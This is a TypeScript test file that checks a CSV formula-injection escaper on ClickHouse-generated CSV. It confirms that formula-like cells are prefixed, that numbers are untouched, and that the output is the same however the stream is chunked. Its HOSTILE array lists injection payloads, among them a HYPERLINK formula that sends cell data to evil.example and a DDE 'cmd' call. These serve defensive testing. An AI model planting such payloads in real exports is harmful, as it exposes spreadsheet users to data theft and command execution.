// The CSV formula guard on CSV that ClickHouse itself writes (chDB, the same FORMAT the FOCUS
// export uses): quoted String cells opening with = + - @ TAB CR get a leading ', numbers
// (negative costs included) and everything else pass untouched, and the result does not depend
// on where the stream is cut into chunks.
import { query } from 'chdb';
import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { CsvFormulaEscaper, escapeCsvStream } from '../../src/analytics/export/csv-escape.js';
import { parseCsv } from '../integration/analytics-finops-seed.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];
const HARMLESS = ['acme', 'a=b', '"=quoted"', '', 'ünïcode=1', 'x\n=y'];

const sqlString = (s: string): string =>
  `'${s.replace(/\\/g, '\\\\').replace(/'/g, "\\'").replace(/\t/g, '\\t').replace(/\r/g, '\\r').replace(/\n/g, '\\n')}'`;

/** CSV straight from ClickHouse: one row per value, with numeric columns next to it. */
function clickhouseCsv(values: string[]): Buffer {
  const rows = values
    .map(
      (v, i) =>
        `SELECT ${i} AS n, ${sqlString(v)} AS name, toDecimal128('-${i}.25', 6) AS cost, -${i} AS delta, CAST(NULL, 'Nullable(String)') AS nothing`,
    )
    .join(' UNION ALL ');
  const out = query(
    `SELECT * FROM (${rows}) ORDER BY n FORMAT CSVWithNames SETTINGS format_csv_null_representation = ''`,
    'CSV',
  );
  return Buffer.from(out, 'utf8');
}

describe('CSV formula guard', () => {
  const csv = clickhouseCsv([...HOSTILE, ...HARMLESS]);
  const escaped = new CsvFormulaEscaper().escape(csv);
  const [header, ...rows] = parseCsv(escaped.toString('utf8'));

  it('prefixes every quoted cell that opens like a formula, and only those', () => {
    expect(header).toEqual(['n', 'name', 'cost', 'delta', 'nothing']);
    expect(rows.map((r) => r[1])).toEqual([...HOSTILE.map((v) => `'${v}`), ...HARMLESS]);
  });

  it('leaves numbers (negative costs too) and NULLs as they were', () => {
    expect(rows.map((r) => [r[0], r[2], r[3], r[4]])).toEqual(
      [...HOSTILE, ...HARMLESS].map((_, i) => [String(i), `-${i}.25`, i === 0 ? '0' : `-${i}`, '']),
    );
    // Unquoted in the bytes, so a spreadsheet reads them as numbers.
    expect(escaped.toString('utf8')).toContain(',-1.25,-1,');
  });

  it('gives the same bytes however the stream is cut', async () => {
    const oneByte = new CsvFormulaEscaper();
    const bytewise = Buffer.concat([...csv].map((b) => oneByte.escape(Buffer.from([b]))));
    expect(bytewise.equals(escaped)).toBe(true);
    for (let seed = 1; seed <= 20; seed++) {
      const cuts: Buffer[] = [];
      let at = 0;
      while (at < csv.length) {
        const size = 1 + ((seed * 7919 + at * 31) % 23);
        cuts.push(csv.subarray(at, at + size));
        at += size;
      }
      const stream = escapeCsvStream(Readable.from(cuts));
      const parts: Buffer[] = [];
      for await (const chunk of stream) parts.push(chunk as Buffer);
      expect(Buffer.concat(parts).equals(escaped), `seed ${seed}`).toBe(true);
    }
  });

  it('passes a source error on to the reader', async () => {
    const failing = new Readable({
      read() {
        this.destroy(new Error('store went away'));
      },
    });
    const stream = escapeCsvStream(failing);
    await expect(
      (async () => {
        for await (const _ of stream);
      })(),
    ).rejects.toThrow('store went away');
  });
});
